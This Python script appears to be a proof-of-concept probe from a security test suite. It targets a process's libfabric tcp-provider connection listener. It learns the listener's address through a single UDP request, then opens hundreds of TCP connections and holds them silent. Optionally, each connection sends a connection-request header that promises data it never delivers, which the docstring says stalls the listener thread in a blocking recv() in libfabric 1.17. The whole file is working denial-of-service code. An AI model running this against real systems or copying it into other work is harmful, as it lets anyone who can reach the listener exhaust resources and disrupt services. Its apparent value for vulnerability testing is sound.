"""Holds silent TCP connections to a process's fabric connection listener (connected
endpoints, SLIP_FABRIC_ENDPOINT=msg over libfabric's tcp provider: a passive endpoint on the
domain's address, a port the system picked), as any local user (or any host that reaches
that address) can: connections that never send the provider's connection request, so no
fi_connect, no tag and no nonce is ever checked.

The listener's address is learnt as a client learns it: one well-formed REQ to the TCP
listener's UDP twin (127.0.0.1:--port, from 127.0.0.2; progs/fabric_req_flood.py writes
it) brings a REP whose address is the connection listener's (a sockaddr). Then --count
TCP connections to it, each left silent; "HELD" is printed once they are made, then one
JSON line {"uid", "listener": "ADDR:PORT", "answer": "rep"|..., "held", "failed"}, and the
connections stay open for --hold s (or until the program is killed).

--promise N: each connection then sends the provider's connection-request header (its
version, type 0 = connreq) saying that N bytes of connection data follow, and never
sends them. libfabric 1.17's tcp provider reads the request from a blocking socket: the
thread that takes the listener's events would wait in recv() for those bytes.
"""

import argparse
import json
import os
import random
import socket
import struct
import time

from fabric_req_flood import answer_type, req


def report(**fields):
    print(json.dumps(fields), flush=True)


def listener_address(rep):
    """The REP's address (offset 80, its length at offset 7): a sockaddr_in or _in6."""
    address = rep[80:80 + rep[7]]
    family = struct.unpack_from("<H", address)[0]
    port = struct.unpack_from(">H", address, 2)[0]
    if family == socket.AF_INET:
        return socket.AF_INET, (socket.inet_ntoa(address[4:8]), port)
    return socket.AF_INET6, (socket.inet_ntop(socket.AF_INET6, address[8:24]), port)


def connreq_header(data_bytes):
    """struct ofi_ctrl_hdr (libfabric's include/ofi_proto.h) as the tcp provider's connection
    request starts: version 3 (TCPX_CTRL_HDR_VERSION), type 0 (ofi_ctrl_connreq),
    seg_size (network order) the bytes of connection data that follow, seg_no, conn_id,
    msg_id, conn_data (1: the sender's byte order matches)."""
    return struct.pack("<BB", 3, 0) + struct.pack(">H", data_bytes) + \
        struct.pack("<IQQQ", 0, 0, 0, 1)


def main():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--count", type=int, default=700)
    parser.add_argument("--hold", type=float, default=30.0)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--promise", type=int, default=0)
    args = parser.parse_args()
    rng = random.Random(args.seed)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.2", 0))
    udp.connect(("127.0.0.1", args.port))
    udp.settimeout(1.0)
    rep = None
    for _ in range(3):
        udp.send(req(("127.0.0.2", 20000 + rng.randrange(40000)), args.port,
                     rng.getrandbits(64), "msg", 20, rng))
        try:
            rep = udp.recv(1024)
            break
        except (socket.timeout, ConnectionRefusedError):
            continue
    answer = answer_type(rep) if rep else None
    if answer != "rep":
        print("HELD", flush=True)
        report(uid=os.getuid(), listener=None, answer=answer, held=0, failed=0)
        return
    family, address = listener_address(rep)
    held, failed = [], 0
    for _ in range(args.count):
        try:
            sock = socket.socket(family, socket.SOCK_STREAM)
        except OSError:  # (our own descriptor limit)
            failed += 1
            break
        sock.settimeout(1.0)
        try:
            sock.connect(address)
            if args.promise:
                sock.sendall(connreq_header(args.promise))
            held.append(sock)
        except OSError:
            failed += 1
            sock.close()
    print("HELD", flush=True)
    report(uid=os.getuid(), listener=f"{address[0]}:{address[1]}", answer=answer,
           held=len(held), failed=failed)
    time.sleep(args.hold)


if __name__ == "__main__":
    main()
